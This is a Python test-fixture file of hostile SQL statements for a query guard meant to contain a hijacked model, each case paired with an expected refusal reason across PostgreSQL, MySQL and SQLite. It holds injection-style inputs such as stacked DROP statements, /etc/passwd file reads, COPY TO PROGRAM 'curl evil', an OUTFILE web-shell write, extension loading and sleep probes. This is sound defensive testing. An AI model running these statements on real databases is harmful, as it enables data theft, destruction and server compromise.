"""Hostile statements for the query guard: what a hijacked model might write.

Each case is ``(dialect, sql, expected)``: ``expected`` is the refusal reason, or
``"ok"`` for a statement the guard allows once rewritten; the tests then run the
rewritten SQL (SQLite cases) and check that no other user's row, hidden column or
masked value comes back.

Policy the cases assume (see ``test_guard.policy``): ``orders(id, region, amount,
customer)`` filtered on ``region = :user_region`` with ``customer`` masked (the table
also has ``ssn`` and ``note``, hidden); ``regions`` readable in full; ``employees``
exists in the database but is not allow-listed.
"""

from __future__ import annotations

from typing import NamedTuple


class Case(NamedTuple):
    dialect: str
    sql: str
    expected: str


DIALECTS = ("postgres", "mysql", "sqlite")

# Refused in every dialect, with the same reason.
_EVERYWHERE: list[tuple[str, str]] = [
    # stacked statements
    ("SELECT id FROM orders; DELETE FROM orders", "multiple_statements"),
    ("SELECT id FROM orders; SELECT ssn FROM orders", "multiple_statements"),
    ("SELECT 1; DROP TABLE orders", "multiple_statements"),
    ("SELECT id FROM orders;SELECT * FROM employees", "multiple_statements"),
    # writes and DDL
    ("DELETE FROM orders", "not_select"),
    ("UPDATE orders SET amount = 0", "not_select"),
    ("INSERT INTO orders (id) VALUES (1)", "not_select"),
    ("INSERT INTO orders SELECT * FROM orders", "not_select"),
    ("DROP TABLE orders", "not_select"),
    ("CREATE TABLE x AS SELECT * FROM orders", "not_select"),
    ("ALTER TABLE orders ADD COLUMN x INT", "not_select"),
    ("TRUNCATE TABLE orders", "not_select"),
    ("CREATE VIEW v AS SELECT * FROM employees", "not_select"),
    ("CREATE INDEX i ON orders (id)", "not_select"),
    # tables outside the allow-list, directly or hidden in a query
    ("SELECT * FROM employees", "unknown_table"),
    ("SELECT id FROM orders UNION SELECT id FROM employees", "unknown_table"),
    ("SELECT id FROM orders UNION ALL SELECT salary FROM employees", "unknown_table"),
    ("SELECT id FROM orders INTERSECT SELECT id FROM employees", "unknown_table"),
    ("SELECT id FROM orders EXCEPT SELECT id FROM employees", "unknown_table"),
    ("SELECT * FROM orders JOIN employees ON orders.id = employees.id", "unknown_table"),
    ("SELECT * FROM orders, employees", "unknown_table"),
    ("SELECT id FROM orders WHERE id IN (SELECT id FROM employees)", "unknown_table"),
    ("SELECT id FROM orders WHERE EXISTS (SELECT 1 FROM employees)", "unknown_table"),
    ("SELECT (SELECT max(salary) FROM employees) FROM orders", "unknown_table"),
    ("SELECT * FROM (SELECT * FROM employees) AS o", "unknown_table"),
    ("WITH e AS (SELECT * FROM employees) SELECT * FROM e", "unknown_table"),
    ("WITH o AS (SELECT * FROM orders) SELECT * FROM o JOIN employees ON 1 = 1", "unknown_table"),
    (
        "SELECT id FROM orders GROUP BY id HAVING count(*) > (SELECT 1 FROM employees)",
        "unknown_table",
    ),
    ("SELECT id FROM orders ORDER BY (SELECT 1 FROM employees)", "unknown_table"),
    ("SELECT * FROM orders_v", "unknown_table"),
    ("SELECT * FROM order_summary_view", "unknown_table"),
    # a CTE does not leak outside its query
    (
        "SELECT * FROM (WITH employees AS (SELECT 1 AS x) SELECT * FROM employees) AS s, employees",
        "unknown_table",
    ),
    # columns the caller may not see
    ("SELECT ssn FROM orders", "column_not_allowed"),
    ("SELECT o.ssn FROM orders AS o", "column_not_allowed"),
    ("SELECT id FROM orders WHERE ssn LIKE '1%'", "column_not_allowed"),
    ("SELECT id FROM orders ORDER BY note", "column_not_allowed"),
    ("SELECT count(ssn) FROM orders", "column_not_allowed"),
    (
        "SELECT id FROM orders WHERE id IN (SELECT id FROM orders WHERE note = 'x')",
        "column_not_allowed",
    ),
    ("WITH c AS (SELECT ssn FROM orders) SELECT * FROM c", "column_not_allowed"),
    ("SELECT orders.note FROM orders", "column_not_allowed"),
    # ... resolved per scope: each set-operation branch, subquery and CTE body sees its
    # own sources (regions shows all its columns, which must not cover orders' hidden ones)
    ("SELECT name FROM regions UNION SELECT ssn FROM orders", "column_not_allowed"),
    ("SELECT name FROM regions UNION ALL SELECT note FROM orders", "column_not_allowed"),
    ("SELECT ssn FROM orders UNION SELECT name FROM regions", "column_not_allowed"),
    ("SELECT name FROM regions INTERSECT SELECT ssn FROM orders", "column_not_allowed"),
    ("SELECT name FROM regions EXCEPT SELECT ssn FROM orders", "column_not_allowed"),
    (
        "SELECT label FROM regions UNION SELECT name FROM regions UNION SELECT note FROM orders",
        "column_not_allowed",
    ),
    ("SELECT id FROM orders UNION SELECT id FROM orders ORDER BY ssn", "column_not_allowed"),
    (
        "SELECT name FROM regions r WHERE r.name IN (SELECT o.ssn FROM orders o)",
        "column_not_allowed",
    ),
    (
        "SELECT id FROM orders o WHERE EXISTS (SELECT 1 FROM regions r WHERE r.name = o.ssn)",
        "column_not_allowed",
    ),
    ("WITH c AS (SELECT * FROM orders) SELECT ssn FROM c", "column_not_allowed"),
    ("WITH c AS (SELECT id FROM orders) SELECT c.region FROM c", "column_not_allowed"),
    ("WITH c (x) AS (SELECT ssn FROM orders) SELECT x FROM c", "column_not_allowed"),
    ("WITH c AS (SELECT id FROM orders), d AS (SELECT note FROM c) SELECT 1", "column_not_allowed"),
    ("SELECT t.ssn FROM (SELECT * FROM orders) AS t", "column_not_allowed"),
    ("SELECT ssn FROM (SELECT id, region FROM orders) AS t", "column_not_allowed"),
    ("SELECT e.id FROM orders AS o", "column_not_allowed"),
    ("SELECT o.id FROM regions AS r JOIN orders AS o USING (ssn)", "column_not_allowed"),
    ("SELECT no_such_column", "column_not_allowed"),
    # functions
    ("SELECT sleep(5)", "forbidden_function"),
    ("SELECT id FROM orders WHERE sleep(5) = 0", "forbidden_function"),
    ("SELECT load_file('/etc/passwd')", "forbidden_function"),
    ("SELECT version()", "forbidden_function"),
    ("SELECT benchmark(10000000, 1)", "forbidden_function"),
    ("SELECT id FROM orders WHERE randomblob(100000000) IS NULL", "forbidden_function"),
    ("SELECT repeat('a', 1000000000)", "forbidden_function"),
    ("SELECT current_user", "forbidden_function"),
    ("SELECT id, my_udf(amount) FROM orders", "forbidden_function"),
    ("SELECT CASE WHEN region = 'us' THEN sleep(5) END FROM orders", "forbidden_function"),
    ("SELECT * FROM generate_series(1, 10)", "forbidden_function"),
    # time-based probes
    (
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
        "recursive_cte",
    ),
    ("WITH RECURSIVE r AS (SELECT id FROM orders) SELECT * FROM r", "recursive_cte"),
    # placeholders the model should never write
    ("SELECT id FROM orders WHERE region = ?", "unsupported_syntax"),
    ("SELECT id FROM orders WHERE region = :user_region", "unsupported_syntax"),
    ("SELECT id FROM orders LIMIT (SELECT 1)", "unsupported_syntax"),
    ("SELECT * FROM (VALUES (1, 'us')) AS v(id, region)", "unsupported_syntax"),
    ("", "parse_error"),
    ("   ", "parse_error"),
    ("SELEC id FROM orders", "not_select"),
    ("SELECT id FROM orders WHERE (", "parse_error"),
    ("-- just a comment", "parse_error"),
    ("SELECT 'unterminated FROM orders", "parse_error"),
    # allowed, rewritten: the filter still holds
    ("SELECT * FROM orders WHERE 1 = 1 OR 1 = 1", "ok"),
    ("SELECT * FROM orders WHERE region = 'us' OR 1 = 1", "ok"),
    ("SELECT * FROM orders WHERE region <> 'eu'", "ok"),
    ("SELECT * FROM orders o1 JOIN orders o2 ON 1 = 1 WHERE o2.region = 'us'", "ok"),
    ("SELECT id FROM orders UNION SELECT id FROM orders WHERE 1 = 1", "ok"),
    ("WITH orders AS (SELECT * FROM orders WHERE 1 = 1) SELECT * FROM orders", "ok"),
    ("WITH x AS (SELECT * FROM orders) SELECT * FROM x WHERE region = 'us' OR 1 = 1", "ok"),
    ("SELECT * FROM (SELECT * FROM orders) AS orders WHERE region IN ('us', 'apac')", "ok"),
    ("SELECT * FROM orders WHERE id IN (SELECT id FROM orders WHERE region = 'us')", "ok"),
    ("SELECT customer FROM orders", "ok"),
    ("SELECT region, count(*) FROM orders GROUP BY region", "ok"),
    ("SELECT name FROM regions WHERE name = 'eu' UNION SELECT region FROM orders", "ok"),
    ("SELECT id AS n FROM orders UNION SELECT 1 ORDER BY n", "ok"),
    ("SELECT region, count(*) AS n FROM orders GROUP BY region ORDER BY n", "ok"),
    (
        "SELECT id FROM orders o WHERE EXISTS (SELECT 1 FROM regions r WHERE r.name = o.region)",
        "ok",
    ),
    ("SELECT name FROM regions WHERE EXISTS (SELECT 1 FROM orders WHERE region = name)", "ok"),
    ("SELECT id FROM orders WHERE region IN (SELECT name FROM regions WHERE label = region)", "ok"),
    ("WITH c AS (SELECT id AS ssn FROM orders) SELECT ssn FROM c", "ok"),
    ("WITH c (x) AS (SELECT region FROM orders) SELECT c.x FROM c", "ok"),
    (
        "SELECT t.n, t.region FROM (SELECT region, count(*) AS n FROM orders GROUP BY region) t",
        "ok",
    ),
    ("SELECT * FROM (orders) AS o WHERE o.region = 'us'", "ok"),
    ("SELECT o.id FROM orders AS o JOIN regions AS r ON r.name = o.region", "ok"),
]

_PER_DIALECT: list[Case] = [
    # PostgreSQL
    Case("postgres", "COPY orders TO '/tmp/orders.csv'", "not_select"),
    Case("postgres", "COPY (SELECT * FROM orders) TO PROGRAM 'curl evil'", "not_select"),
    Case("postgres", "SELECT pg_read_file('/etc/passwd')", "forbidden_function"),
    Case("postgres", "SELECT pg_read_binary_file('/etc/passwd')", "forbidden_function"),
    Case("postgres", "SELECT * FROM pg_ls_dir('.')", "forbidden_function"),
    Case("postgres", "SELECT pg_stat_file('postgresql.conf')", "forbidden_function"),
    Case("postgres", "SELECT lo_import('/etc/passwd')", "forbidden_function"),
    Case("postgres", "SELECT lo_export(1, '/tmp/x')", "forbidden_function"),
    Case(
        "postgres",
        "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)",
        "forbidden_function",
    ),
    Case("postgres", "SELECT dblink_exec('host=evil', 'DROP TABLE x')", "forbidden_function"),
    Case("postgres", "SELECT pg_sleep(10)", "forbidden_function"),
    Case("postgres", "SELECT pg_sleep_for('5 minutes')", "forbidden_function"),
    Case("postgres", "SELECT current_setting('data_directory')", "forbidden_function"),
    Case("postgres", "SELECT set_config('role', 'admin', false)", "forbidden_function"),
    Case("postgres", "SELECT pg_terminate_backend(1)", "forbidden_function"),
    Case("postgres", "SELECT session_user", "forbidden_function"),
    Case("postgres", "SELECT current_database()", "forbidden_function"),
    Case("postgres", "SELECT 'pg_authid'::regclass", "forbidden_type"),
    Case("postgres", "SELECT id::regproc FROM orders", "forbidden_type"),
    Case("postgres", "SELECT CAST(id AS oid) FROM orders", "forbidden_type"),
    Case("postgres", "SELECT E'\\x41' FROM orders", "unsupported_syntax"),
    Case("postgres", "SELECT $$x$$ FROM orders", "unsupported_syntax"),
    Case("postgres", "SELECT $tag$ ' OR 1=1 $tag$ FROM orders", "unsupported_syntax"),
    Case("postgres", "SELECT * FROM pg_catalog.pg_user", "catalog_access"),
    Case("postgres", "SELECT * FROM pg_shadow", "catalog_access"),
    Case("postgres", "SELECT * FROM pg_authid", "catalog_access"),
    Case("postgres", "SELECT table_name FROM information_schema.tables", "catalog_access"),
    Case("postgres", "SELECT * FROM information_schema.columns", "catalog_access"),
    Case("postgres", "SELECT * FROM pg_stat_activity", "catalog_access"),
    Case("postgres", "SELECT * FROM public.orders", "unknown_table"),
    Case("postgres", 'SELECT * FROM "Orders"', "unknown_table"),
    Case("postgres", 'SELECT * FROM "public"."employees"', "unknown_table"),
    Case("postgres", "SELECT * FROM ONLY orders", "unsupported_syntax"),
    Case("postgres", "SELECT * FROM orders TABLESAMPLE SYSTEM (10)", "unsupported_syntax"),
    Case("postgres", "SELECT * FROM orders FOR UPDATE", "locking_clause"),
    Case("postgres", "SELECT * FROM orders FOR SHARE", "locking_clause"),
    Case("postgres", "SELECT * FROM orders FOR NO KEY UPDATE SKIP LOCKED", "locking_clause"),
    Case("postgres", "SELECT * INTO stolen FROM orders", "select_into"),
    Case("postgres", "SELECT * INTO TEMP stolen FROM orders", "select_into"),
    Case("postgres", "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", "not_select"),
    Case("postgres", "SET ROLE admin", "not_select"),
    Case("postgres", "SET statement_timeout = 0", "not_select"),
    Case("postgres", "GRANT ALL ON orders TO evil", "not_select"),
    Case("postgres", "SHOW ALL", "not_select"),
    Case("postgres", "EXPLAIN SELECT * FROM employees", "not_select"),
    Case("postgres", "CALL do_things()", "not_select"),
    Case("postgres", "DO $$ BEGIN PERFORM pg_sleep(10); END $$", "not_select"),
    Case("postgres", "TABLE employees", "not_select"),
    Case("postgres", "SELECT ORDERS.Region FROM Orders", "ok"),
    # quoted names are compared as PostgreSQL does: exactly (unquoted ones fold to lower)
    Case("postgres", 'SELECT "Region" FROM orders', "column_not_allowed"),
    Case("postgres", 'SELECT "REGION" FROM orders', "column_not_allowed"),
    Case("postgres", 'SELECT o."Id" FROM orders AS o', "column_not_allowed"),
    Case("postgres", 'SELECT "region", REGION, "amount" FROM ORDERS', "ok"),
    Case("postgres", 'WITH c AS (SELECT id AS "Big" FROM orders) SELECT "Big" FROM c', "ok"),
    Case(
        "postgres",
        'WITH c AS (SELECT id AS "Big" FROM orders) SELECT big FROM c',
        "column_not_allowed",
    ),
    Case("postgres", 'SELECT id AS "N" FROM orders ORDER BY n', "column_not_allowed"),
    Case("postgres", 'SELECT id AS "N" FROM orders ORDER BY "N"', "ok"),
    Case(
        "postgres", "SELECT * FROM orders, LATERAL (SELECT * FROM employees) AS e", "unknown_table"
    ),
    Case("postgres", "SELECT id FROM orders /* ; DROP TABLE orders */ WHERE 1 = 1", "ok"),
    Case("postgres", "SELECT id FROM orders WHERE region = 'eu' -- AND 1 = 0", "ok"),
    # MySQL and MariaDB
    Case("mysql", "SELECT * FROM orders INTO OUTFILE '/tmp/x'", "into_outfile"),
    Case("mysql", "SELECT * INTO OUTFILE '/var/www/shell.php' FROM orders", "into_outfile"),
    Case("mysql", "SELECT * FROM orders INTO DUMPFILE '/tmp/x'", "into_outfile"),
    Case("mysql", "SELECT id INTO @v FROM orders", "select_into"),
    Case("mysql", "SELECT ORDERS.Region FROM Orders", "unknown_table"),
    Case("mysql", "SELECT /*! sleep(5), */ id FROM orders", "executable_comment"),
    Case(
        "mysql",
        "SELECT id FROM orders /*!50000 UNION SELECT ssn FROM orders */",
        "executable_comment",
    ),
    Case("mysql", "SELECT id FROM orders /*M! UNION SELECT 1 */", "executable_comment"),
    Case("mysql", "SELECT /*+ MAX_EXECUTION_TIME(0) */ id FROM orders", "executable_comment"),
    Case("mysql", "SELECT id FROM orders WHERE 1 = 1 /*!UNION*/ SELECT 1", "executable_comment"),
    Case("mysql", "SELECT * FROM mysql.user", "catalog_access"),
    Case("mysql", "SELECT * FROM information_schema.TABLES", "catalog_access"),
    Case("mysql", "SELECT * FROM performance_schema.threads", "catalog_access"),
    Case("mysql", "SELECT * FROM sys.processlist", "catalog_access"),
    Case("mysql", "SELECT * FROM `employees`", "unknown_table"),
    Case("mysql", "SELECT * FROM shop.orders", "unknown_table"),
    Case("mysql", "SELECT * FROM `shop`.`employees`", "unknown_table"),
    Case("mysql", "SELECT * FROM ORDERS", "unknown_table"),
    Case("mysql", "SELECT `ssn` FROM `orders`", "column_not_allowed"),
    # MySQL and MariaDB column names are case-insensitive, quoted or not
    Case("mysql", "SELECT `SSN` FROM orders", "column_not_allowed"),
    Case("mysql", "SELECT `Region`, AMOUNT, o.`ID` FROM orders AS o", "ok"),
    Case("mysql", "WITH c AS (SELECT id AS `Big` FROM orders) SELECT big FROM c", "ok"),
    Case(
        "mysql", "SELECT `name` FROM regions UNION SELECT `Note` FROM orders", "column_not_allowed"
    ),
    Case("mysql", "SELECT @@version", "unsupported_syntax"),
    Case("mysql", "SELECT @@datadir FROM orders", "unsupported_syntax"),
    Case("mysql", "SELECT id FROM orders WHERE @x := 1", "parse_error"),
    Case("mysql", "SELECT * FROM orders USE INDEX (PRIMARY)", "unsupported_syntax"),
    Case("mysql", "SELECT SQL_NO_CACHE * FROM orders", "unsupported_syntax"),
    Case("mysql", "SELECT * FROM orders LOCK IN SHARE MODE", "locking_clause"),
    Case("mysql", "SELECT * FROM orders FOR UPDATE", "locking_clause"),
    Case("mysql", "LOAD DATA INFILE '/etc/passwd' INTO TABLE orders", "not_select"),
    Case("mysql", "SHOW TABLES", "not_select"),
    Case("mysql", "SHOW GRANTS", "not_select"),
    Case("mysql", "SET GLOBAL general_log = 1", "not_select"),
    Case("mysql", "HANDLER orders OPEN", "not_select"),
    Case("mysql", "DO sleep(5)", "not_select"),
    Case("mysql", "SELECT 1 INTO @a; SELECT @a", "multiple_statements"),
    Case("mysql", "SELECT sys_exec('id')", "forbidden_function"),
    Case("mysql", "SELECT id FROM orders WHERE IF(1, sleep(5), 0)", "forbidden_function"),
    Case("mysql", "SELECT extractvalue(1, concat(0x7e, version()))", "forbidden_function"),
    Case("mysql", "SELECT id FROM orders WHERE region = 'eu\\' OR 1=1 -- '", "ok"),
    Case("mysql", "SELECT id FROM orders WHERE 1 = 1 # AND region = 'eu'", "ok"),
    Case("mysql", "SELECT id FROM orders LIMIT 5, 100000", "ok"),
    # SQLite
    Case("sqlite", "SELECT * FROM sqlite_master", "catalog_access"),
    Case("sqlite", "SELECT sql FROM sqlite_schema", "catalog_access"),
    Case("sqlite", "SELECT * FROM sqlite_temp_master", "catalog_access"),
    Case("sqlite", "SELECT * FROM main.sqlite_master", "catalog_access"),
    Case("sqlite", "SELECT * FROM sqlite_sequence", "catalog_access"),
    Case("sqlite", "SELECT * FROM main.orders", "unknown_table"),
    Case("sqlite", "SELECT * FROM temp.orders", "unknown_table"),
    Case("sqlite", 'SELECT * FROM "employees"', "unknown_table"),
    Case("sqlite", "SELECT * FROM [employees]", "unknown_table"),
    Case("sqlite", "SELECT * FROM `employees`", "unknown_table"),
    Case("sqlite", "SELECT * FROM pragma_table_info('employees')", "forbidden_function"),
    Case("sqlite", "PRAGMA table_info(employees)", "not_select"),
    Case("sqlite", "ATTACH DATABASE '/tmp/x.db' AS x", "not_select"),
    Case("sqlite", "VACUUM INTO '/tmp/copy.db'", "not_select"),
    Case("sqlite", "SELECT load_extension('/tmp/evil.so')", "forbidden_function"),
    Case("sqlite", "SELECT readfile('/etc/passwd')", "forbidden_function"),
    Case("sqlite", "SELECT writefile('/tmp/x', ssn) FROM orders", "forbidden_function"),
    Case("sqlite", "SELECT sqlite_version()", "forbidden_function"),
    Case("sqlite", "SELECT rowid, * FROM orders", "column_not_allowed"),
    Case("sqlite", "SELECT * FROM orders INDEXED BY idx", "unsupported_syntax"),
    Case("sqlite", "SELECT id FROM orders LIMIT -1", "unsupported_syntax"),
    Case("sqlite", "SELECT id FROM orders LIMIT 1 OFFSET -1", "unsupported_syntax"),
    Case(
        "sqlite",
        "SELECT id FROM orders WHERE id = 1 UNION SELECT ssn FROM orders",
        "column_not_allowed",
    ),
    Case("sqlite", 'SELECT "SSN" FROM "ORDERS"', "column_not_allowed"),
    Case("sqlite", "SELECT [Ssn] FROM orders", "column_not_allowed"),
    Case("sqlite", 'SELECT "Region", [AMOUNT], `Id` FROM orders', "ok"),
    Case("sqlite", "SELECT * FROM \"orders\" WHERE \"region\" = 'us' OR 'a' = 'a'", "ok"),
    Case("sqlite", "SELECT * FROM ORDERS WHERE REGION = 'us' OR 1", "ok"),
    Case("sqlite", "SELECT * FROM [orders] WHERE 1 = 1", "ok"),
    Case("sqlite", "SELECT * FROM orders LIMIT 100000", "ok"),
    Case("sqlite", "SELECT * FROM orders WHERE id > 0 LIMIT 100000 OFFSET 0", "ok"),
    Case("sqlite", "SELECT id FROM orders WHERE region = 'eu' /* ' OR 1=1 */", "ok"),
    Case("sqlite", "SELECT id FROM orders WHERE note IS NULL OR 1 = 1", "column_not_allowed"),
    Case("sqlite", "SELECT o.*, r.* FROM orders o LEFT JOIN regions r ON r.name = o.region", "ok"),
    Case(
        "sqlite",
        "SELECT * FROM orders o WHERE NOT EXISTS (SELECT 1 FROM orders p "
        "WHERE p.id = o.id AND p.region = 'eu')",
        "ok",
    ),
    Case("sqlite", "SELECT max(amount) OVER () FROM orders", "ok"),
    Case("sqlite", "SELECT ORDERS.Region FROM Orders", "ok"),
    Case(
        "sqlite",
        "SELECT id FROM orders WHERE id = 1;; SELECT ssn FROM orders",
        "multiple_statements",
    ),
    Case("sqlite", "SELECT id FROM orders;", "ok"),
]

HOSTILE: list[Case] = [
    Case(dialect, sql, expected) for dialect in DIALECTS for sql, expected in _EVERYWHERE
] + _PER_DIALECT
